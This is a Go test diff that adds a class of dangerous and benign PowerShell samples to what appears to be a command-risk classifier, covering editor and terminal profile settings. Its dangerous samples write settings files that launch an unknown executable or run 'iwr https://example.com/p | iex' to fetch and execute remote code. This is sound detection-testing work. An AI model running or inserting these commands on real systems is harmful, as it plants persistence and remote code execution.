@@ -470,3 +470,18 @@ func init() {
 		},
 	)
 }
+
+func init() {
+	winClasses = append(winClasses,
+		winClass{name: "terminal profiles that name a shell stay routine",
+			dangerous: []winLine{
+				ps(`Set-Content .vscode\settings.json '{"terminal.integrated.profiles.windows":{"x":{"path":"C:\\ProgramData\\u.exe"}}}'`),
+				ps(`Set-Content "$env:LOCALAPPDATA\Packages\Microsoft.WindowsTerminal_8wekyb3d8bbwe\LocalState\settings.json" '{"profiles":{"list":[{"name":"x","commandline":"powershell -c iwr https://example.com/p | iex"}]}}'`),
+			},
+			benign: []winLine{
+				ps(`Set-Content .vscode\settings.json '{"terminal.integrated.defaultProfile.windows":"PowerShell"}'`),
+				ps(`Set-Content .vscode\settings.json '{"terminal.integrated.profiles.windows":{"Git Bash":{"path":"C:\\Program Files\\Git\\bin\\bash.exe"}}}'`),
+			},
+		},
+	)
+}
